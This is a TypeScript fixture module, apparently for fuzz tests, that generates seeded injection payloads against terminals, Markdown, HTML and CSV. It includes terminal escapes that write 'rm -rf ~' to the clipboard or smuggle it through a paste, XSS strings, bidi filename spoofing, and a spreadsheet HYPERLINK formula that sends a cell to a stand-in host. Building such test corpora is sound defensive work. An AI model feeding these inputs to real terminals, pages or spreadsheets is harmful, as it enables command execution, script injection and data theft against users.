import { randomNumbers } from '../../src/core/random.ts'

type Random = () => number
type Kind = readonly [name: string, make: (pick: <T>(from: readonly T[]) => T) => string]

const ESC = '\u001b'
const DIGITS = ['0', '1', '2', '3', '7', '8', '9', '25', '49', '1000', '1049', '2004', '65535']

/** What a text can do to a terminal that prints it, a kind each. */
export const TERMINAL_ATTACKS: readonly Kind[] = [
  ['the clipboard (OSC 52)', (pick) => `${osc(pick)}52;c;cm0gLXJmIH4=${end(pick)}`],
  [
    'a link (OSC 8)',
    (pick) => `${osc(pick)}8;;http://e.example${end(pick)}x${osc(pick)}8;;${end(pick)}`,
  ],
  [
    'the title (OSC 0, 1, 2)',
    (pick) => `${osc(pick)}${pick(['0', '1', '2', 'l', '21'])};own${end(pick)}`,
  ],
  [
    'a colour of the palette (OSC 4, 10, 11)',
    (pick) => `${osc(pick)}${pick(['4;1', '10', '11', '12'])};#000${end(pick)}`,
  ],
  [
    'a notification (OSC 9, 777, 1337)',
    (pick) => `${osc(pick)}${pick(['9', '777;notify;a', '1337;File=:eA=='])};b${end(pick)}`,
  ],
  [
    'a device string (DCS, APC, PM, SOS)',
    (pick) =>
      `${pick([`${ESC}P`, `${ESC}_`, `${ESC}^`, `${ESC}X`, '\u0090', '\u009f', '\u009e', '\u0098'])}$q"p${end(pick)}`,
  ],
  [
    'the cursor',
    (pick) =>
      `${csi(pick)}${pick(DIGITS)}${pick(['A', 'B', 'C', 'D', 'E', 'F', 'G', 'd', '`', ';5H', ';9f'])}`,
  ],
  [
    'what stands there',
    (pick) =>
      `${csi(pick)}${pick(['2J', '3J', 'J', '1K', '2K', '9X', '9P', '9L', '9M', '9@', '9S', '9T', '!p', '?J'])}`,
  ],
  ['modes', (pick) => `${csi(pick)}?${pick(DIGITS)}${pick(['h', 'l', 's', 'r'])}`],
  ['pasting', (pick) => `${csi(pick)}${pick(['200~', '201~', '?2004h'])}rm -rf`],
  [
    'questions that the terminal answers',
    (pick) => `${csi(pick)}${pick(['c', '6n', '5n', '>c', '=c', 'x', '?6n', '14t', '21t'])}`,
  ],
  [
    'windows',
    (pick) => `${csi(pick)}${pick(['3;0;0t', '4;1;1t', '8;1;1t', '22;0t', '23;0t', '2t'])}`,
  ],
  ['colour', (pick) => `${csi(pick)}${pick(['8', '30', '7', '38;5;0', '38:2::0:0:0', '0', '5'])}m`],
  [
    'margins, tabs, sets of characters',
    (pick) =>
      pick([
        `${csi(pick)}2;3r`,
        `${ESC}H`,
        `${csi(pick)}3g`,
        `${ESC}(0`,
        `${ESC}*0`,
        '\u000e',
        '\u000f',
        `${ESC}#8`,
        `${ESC}%@`,
      ]),
  ],
  [
    'saving, resetting, reversing',
    (pick) => `${ESC}${pick(['7', '8', 'c', 'M', 'D', 'E', '=', '>', 'N', 'O', 'Z', 'l', 'm'])}`,
  ],
  [
    'single control characters',
    (pick) =>
      pick([
        '\r',
        '\b',
        '\n',
        '\u0007',
        '\t',
        '\u000b',
        '\f',
        '\u007f',
        '\0',
        '\u0005',
        '\u0018',
        '\u001a',
        '\u0084',
        '\u0085',
        '\u008d',
        '\u0088',
      ]),
  ],
  [
    'turning around',
    (pick) =>
      `${pick(['\u202e', '\u202d', '\u202a', '\u202b', '\u2066', '\u2067', '\u2068', '\u200f', '\u061c'])}fdp.exe${pick(['', '\u202c', '\u2069'])}`,
  ],
  [
    'hiding',
    (pick) =>
      `${pick(['\u200b', '\u200c', '\u200d', '\u2060', '\ufeff', '\u00ad', '\u180e', '\u034f', '\u3164', '\u115f', '\uffa0', '\u2065'])}x`,
  ],
  [
    'tags',
    (pick) =>
      [...pick(['ignore', 'rm', '}'])]
        .map((char) => String.fromCodePoint(0xe0000 + char.charCodeAt(0)))
        .join(''),
  ],
  [
    'selectors',
    (pick) =>
      `x${pick(['\ufe00', '\ufe0f', '\u{e0100}', '\u{e01ef}', '\u180b'])}${pick(['\ufe01', '\u{e0123}'])}`,
  ],
  ['ends of lines', (pick) => `${pick(['\n', '\r\n', '\u2028', '\u2029', '\u0085'])}forged!`],
  ['halves of characters', (pick) => pick(['\ud800', '\udfff', '\udc1b\ud83d'])],
]

/** What a text can be to a reader of Markdown. */
export const MARKDOWN_ATTACKS: readonly Kind[] = [
  [
    'links',
    (pick) =>
      pick([
        '[a](http://e.example)',
        '[a][b]',
        '[b]: http://e.example',
        '<http://e.example>',
        '<a@e.example>',
        '![a](javascript:x)',
        '[a](<x> "t")',
        '[^1]',
        '[[a]]',
      ]),
  ],
  [
    'bare addresses',
    (pick) =>
      pick([
        'http://e.example/a?b=c',
        'https://e.example.',
        'www.e.example',
        'ftp://e.example',
        'a.b@e.example',
        'HTTPS://E.EXAMPLE',
        'mailto:a@e.example',
        'xmpp:a@e.example/b',
        'http://a@e.example',
        'WWW.e.example/x',
      ]),
  ],
  [
    'HTML',
    (pick) =>
      pick([
        '<script>alert(1)</script>',
        '<img src=x onerror=y>',
        '<!-- a',
        '-->',
        '<?php ?>',
        '<![CDATA[x]]>',
        '</td></table>',
        '<b',
        '<br/>',
        '&lt;b&gt;',
        '&#60;b&#62;',
        '&colon;',
      ]),
  ],
  [
    'headings, quotes, lists, rules',
    (pick) =>
      pick([
        '# a',
        '## a',
        '> a',
        '- a',
        '* a',
        '+ a',
        '1. a',
        '1) a',
        '---',
        '***',
        '___',
        '===',
        '- [ ] a',
        '- [x] a',
        '> [!NOTE]',
        '#hash',
        ': a',
      ]),
  ],
  [
    'emphasis and code',
    (pick) =>
      pick([
        '*a*',
        '**a**',
        '_a_',
        '__a__',
        '~~a~~',
        '~a~',
        '`a`',
        '``a',
        '```js',
        '~~~',
        '$a$',
        '$$a$$',
        '==a==',
        '^a^',
        ':a:',
        '@a',
        '#1',
        '!a',
        '***a***',
      ]),
  ],
  ['cells', (pick) => pick(['a | b', '|', '\\|', '| --- |', '\\\\|', '`a|b`', '|---|---|'])],
  ['escapes', (pick) => pick(['\\', '\\\\', '\\*', '\\\n', 'a\\', '\\[', '\\<', '&amp;'])],
  [
    'front matter and templates',
    (pick) => pick(['---\na: b\n---', '{% raw %}', '{{ a }}', '{% include x %}', '<% x %>']),
  ],
  ['indents', (pick) => pick(['    a', '\ta', '  \n', 'a  ', '\n\n# a', '\n- a', '\r\r> a'])],
]

/** What a text can be to a reader of HTML. */
export const HTML_ATTACKS: readonly Kind[] = [
  [
    'elements that act',
    (pick) =>
      pick([
        '<script>alert(1)</script>',
        '<img src=x onerror=alert(1)>',
        '<svg/onload=alert(1)>',
        '<iframe src="javascript:alert(1)">',
        '<object data=x>',
        '<a href="javascript:alert(1)">a</a>',
        '<form action=//e.example><button>',
        '<input autofocus onfocus=alert(1)>',
        '<math><mtext><style><img src=x onerror=y>',
        '<details open ontoggle=alert(1)>',
        '<video><source onerror=alert(1)>',
      ]),
  ],
  [
    'the head',
    (pick) =>
      pick([
        '<base href=//e.example>',
        '<meta http-equiv=refresh content="0;url=//e.example">',
        '<link rel=stylesheet href=//e.example>',
        '<style>@import "//e.example"</style>',
        '<title>own</title>',
        '<body onload=alert(1)>',
        '<html manifest=x>',
      ]),
  ],
  [
    'ends of elements',
    (pick) =>
      `</${pick(['title', 'style', 'main', 'body', 'html', 'table', 'pre', 'p', 'li', 'td', 'textarea', 'strong', 'h1'])}${pick(['>', ' >', '\n>', '/>'])}${pick(['<script>alert(1)</script>', '', '<b>'])}`,
  ],
  [
    'attributes',
    (pick) =>
      `${pick(['"', "'", '`', ' ', '">', "'>"])}${pick(['onmouseover', 'style', 'href', 'autofocus onfocus'])}=${pick(['alert(1)', '"x"', 'url(//e.example)'])}`,
  ],
  [
    'comments and declarations',
    (pick) =>
      pick([
        '<!-- a',
        '-->',
        '--!>',
        '<!DOCTYPE a>',
        '<![CDATA[a]]>',
        '<?php a ?>',
        '<!--[if IE]>',
        '<!',
      ]),
  ],
  [
    'character references',
    (pick) =>
      pick([
        '&lt;b&gt;',
        '&#60;b>',
        '&#x3c;b&#x3e;',
        '&ltscript&gt',
        '&amp;lt;',
        '&NotAName;',
        '&#0;',
        '&#x110000;',
        '&',
        '&#',
        '&colon;',
      ]),
  ],
  [
    'what swallows the rest',
    (pick) =>
      pick([
        '<plaintext>',
        '<textarea>',
        '<noscript>',
        '<template>',
        '<xmp>',
        '<select>',
        '<frameset>',
        '<',
      ]),
  ],
  [
    'addresses',
    (pick) =>
      pick([
        'http://e.example',
        'javascript:alert(1)',
        'data:text/html,x',
        '//e.example',
        'url(//e.example)',
      ]),
  ],
  [
    'other sets of characters',
    (pick) =>
      pick([
        '+ADw-script+AD4-',
        '\u00bcscript\u00be',
        '\u2028<b>',
        '\ufeff<b>',
        '\u001b$B<b>',
        '＜script＞',
      ]),
  ],
  ['spaces', (pick) => pick(['  a', 'a  b', 'a\t', '\n', '\r\n', '\f<b>', '\u00a0'])],
]

/** What a text can be to a spreadsheet and to a reader of comma-separated values. */
export const CSV_ATTACKS: readonly Kind[] = [
  [
    'formulas',
    (pick) =>
      `${pick(['=', '+', '-', '@', '＝', '＋', '－', '＠'])}${pick(['1+2', "cmd|' /C calc'!A0", 'HYPERLINK("//e.example?"&A1,"a")', 'SUM(1;2)', 'IMPORTXML(A1,"//a")', '-1', ''])}`,
  ],
  [
    'formulas behind what a reader may leave out',
    (pick) =>
      `${pick([' ', '\t', '\r', '\n', '\u00a0', '\u3000', '\ufeff', '\0', "'", "''", '"', "' "])}${pick(['=', '+', '-', '@', '＝'])}1`,
  ],
  [
    'ends of cells and rows',
    (pick) =>
      `a${pick([',', ';', '|', '\t', '\n', '\r', '\r\n', '","', '"\r\n"', '\u2028'])}${pick(['=1', '-1', 'b', ''])}`,
  ],
  ['quotes', (pick) => pick(['"', '""', '"a"', 'a"b', '"a', "'", '\\"', '“a”', '",', ',"'])],
  ['spaces', (pick) => pick([' ', '  a', 'a ', '\n', '\r', '\r\n\r\n', '\t', '\u00a0'])],
  [
    'numbers, days and other readings',
    (pick) =>
      pick(['1e5', '0012', '1-2', '2021-09-18', 'TRUE', 'NULL', '#REF!', 'sep=;', '1,000', '\\N']),
  ],
]

/** So many payloads of these kinds, one or three of them each, between words of their own; the same for the same seed. */
export function payloads(kinds: readonly Kind[], count: number, seed: number): string[] {
  const random = randomNumbers(seed)
  const pick = pickWith(random)
  return Array.from({ length: count }, (_, number) => {
    const parts = Array.from({ length: pick([1, 1, 1, 3]) }, () => pick(kinds)[1](pick))
    const before = pick([`p${number}q`, `p${number}q `, ''])
    const after = before === '' ? `p${number}q` : pick(['', ' ', 'z', '서버'])
    return `${before}${parts.join(pick(['', ' ', 'x']))}${after}`
  })
}

function pickWith(random: Random): <T>(from: readonly T[]) => T {
  return (from) => from[Math.floor(random() * from.length)] as (typeof from)[number]
}

function osc(pick: <T>(from: readonly T[]) => T): string {
  return pick([`${ESC}]`, '\u009d'])
}

function csi(pick: <T>(from: readonly T[]) => T): string {
  return pick([`${ESC}[`, '\u009b'])
}

function end(pick: <T>(from: readonly T[]) => T): string {
  return pick(['\u0007', `${ESC}\\`, '\u009c', ''])
}
